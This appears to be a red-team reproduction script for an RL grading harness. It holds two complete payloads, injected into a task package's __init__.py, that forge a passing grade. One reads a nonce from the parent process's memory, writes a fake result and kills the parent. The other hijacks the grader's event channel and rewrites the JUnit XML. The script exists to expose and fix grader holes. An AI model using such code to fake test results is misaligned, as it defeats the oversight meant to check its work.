"""Reproduction of the red team's grading forgeries (docs/redteam.md, findings G1 and G2). Not a
test: both succeed against the grader as it stands; turn them into tests asserting ``reward == 0``
once fixed.

Workspace code, imported by a hidden test after collection, runs inside the grading runner's pytest
child, as the same uid as the runner's parent.

* ``FORGE_VIA_PARENT`` (G1): the parent is dumpable, so the child reads the nonce from
  ``/proc/<ppid>/mem``, writes a result line of its own through ``/proc/<ppid>/fd/1`` and SIGKILLs
  the parent before it prints the real one.
* ``FORGE_OWN_CHANNELS`` (G2): needs nothing from the parent. The child owns both evidence channels:
  it ``dup2``s the grader plugin's events fd onto a pipe it drains, writes passing events to the
  real fd, and rewrites the JUnit XML from an ``atexit`` handler after pytest wrote it.

Run: ``.venv/bin/python -m tests.redteam.grading_forge`` (three gradings, about 20-60 s).
"""

import asyncio
import io
import tarfile
import uuid

import docker

from rollout.grading import GradeResult, grade
from rollout.tasks import Task, load_suite
from sandbox.docker_backend import DockerBackend
from sandbox.image import ensure_image
from sandbox.settings import SandboxSettings

TASK_ID = "builtin/roman-numerals"
PACKAGE_INIT = "numerals/__init__.py"

FORGE_VIA_PARENT = r"""
def _forge():
    import gc, json, os, re, signal
    ppid = os.getppid()
    nonces, thirty_two = [], (32).to_bytes(8, "little")
    with open(f"/proc/{ppid}/mem", "rb") as mem:
        for line in open(f"/proc/{ppid}/maps"):
            addr, perms = line.split()[:2]
            if not perms.startswith("r"):
                continue
            lo, hi = (int(x, 16) for x in addr.split("-"))
            try:
                mem.seek(lo)
                chunk = mem.read(min(hi - lo, 64 << 20))
            except (OSError, OverflowError, ValueError):
                continue
            for m in re.finditer(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", chunk):
                at = m.start()  # a 32-char CPython str object: length field before, NUL after
                header = (chunk[at - 32 : at - 24], chunk[at - 24 : at - 16])
                if chunk[at + 32 : at + 33] == b"\0" and thirty_two in header:
                    if m.group().decode() not in nonces:
                        nonces.append(m.group().decode())
    session = next(o for o in gc.get_objects() if type(o).__name__ == "Session" and hasattr(o, "items"))
    ids = [item.nodeid for item in session.items]
    def junit(nodeid):
        names = nodeid.split("::")
        names[0] = re.sub(r"\.py$", "", names[0].replace("/", "."))
        return [".".join(names[:-1]), names[-1], "passed"]
    ok = ["passed", ""]
    result = {
        "returncode": 0, "timed_out": False, "junit": [junit(i) for i in ids], "junit_error": None,
        "events": {"reports": {i: {"setup": ok, "call": ok, "teardown": ok} for i in ids},
                   "calls": {i: [False] for i in ids}, "collected": ids, "finish": 0,
                   "anomalies": [], "tamper": [], "collect_errors": []},
        "output_tail": "",
    }
    with open(f"/proc/{ppid}/fd/1", "w") as out:
        for nonce in nonces[:20]:
            out.write(f"\nRLGUARD-GRADE {nonce} {json.dumps(result, separators=(',', ':'))}\n")
    os.kill(ppid, signal.SIGKILL)
    os._exit(0)

_forge()
"""


FORGE_OWN_CHANNELS = r"""
def _forge_own_channels():
    import atexit, gc, json, os, re, sys, threading
    spec = json.loads(sys.argv[2])
    fd, junit_path = spec["events_fd"], spec["junit"]
    real = os.dup(fd)
    r, w = os.pipe()
    os.dup2(w, fd)  # the grader plugin now writes into a pipe nobody reads but us
    os.close(w)
    threading.Thread(target=lambda: [None for _ in iter(lambda: os.read(r, 65536), b"")], daemon=True).start()
    session = next(o for o in gc.get_objects() if type(o).__name__ == "Session" and hasattr(o, "items"))
    ids = [item.nodeid for item in session.items]
    current = os.environ.get("PYTEST_CURRENT_TEST", "").rsplit(" ", 1)[0]
    start = ids.index(current) if current in ids else 0
    def send(**event):
        os.write(real, (json.dumps(event) + "\n").encode())
    for i, nodeid in enumerate(ids[start:]):
        for when in (("call", "teardown") if i == 0 and current else ("setup", "call", "teardown")):
            if when == "call":
                send(event="call", id=nodeid, raised=False)
            send(event="report", id=nodeid, when=when, outcome="passed", message="")
    def finish():
        send(event="finish", exitstatus=0)
        cases = []
        for nodeid in ids:
            names = nodeid.split("::")
            names[0] = re.sub(r"\.py$", "", names[0].replace("/", "."))
            cases.append(f'<testcase classname="{".".join(names[:-1])}" name="{names[-1]}" time="0.01"/>')
        with open(junit_path, "w") as fh:
            fh.write('<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" '
                     f'errors="0" failures="0" skipped="0" tests="{len(ids)}">' + "".join(cases)
                     + "</testsuite></testsuites>")
        os._exit(0)
    atexit.register(finish)

_forge_own_channels()
"""


def workspace_with(task: Task, files: dict[str, str]) -> bytes:
    """The task's initial workspace tar with ``files`` replaced."""
    out = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(task.workspace_tar())) as src,
        tarfile.open(fileobj=out, mode="w") as dst,
    ):
        for member in src:
            if member.name not in files:
                dst.addfile(member, src.extractfile(member) if member.isfile() else None)
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.uid, info.gid = len(data), 0o644, 1000, 1000
            dst.addfile(info, io.BytesIO(data))
    return out.getvalue()


async def untouched_and_forged() -> list[tuple[str, GradeResult]]:
    """Grade the unsolved workspace as shipped, then with each forgery prepended to the package."""
    client = docker.from_env()
    image = ensure_image(client)
    client.close()
    backend = DockerBackend(f"test-redteam-forge-{uuid.uuid4().hex[:6]}", None, SandboxSettings(image=image))
    task = {t.id: t for t in load_suite("builtin")}[TASK_ID]
    original = (task.workspace_dir / PACKAGE_INIT).read_text()
    results = []
    try:
        results.append(("untouched", await grade(backend, task, task.workspace_tar())))
        for name, forge in (("via-parent", FORGE_VIA_PARENT), ("own-channels", FORGE_OWN_CHANNELS)):
            archive = workspace_with(task, {PACKAGE_INIT: forge + "\n" + original})
            results.append((name, await grade(backend, task, archive)))
    finally:
        await backend.close()
    return results


def main() -> None:
    for name, result in asyncio.run(untouched_and_forged()):
        reason = result.details.get("reason")
        print(f"{name:12} reward={result.reward} passed={result.passed}/{result.total} {reason}")


if __name__ == "__main__":
    main()
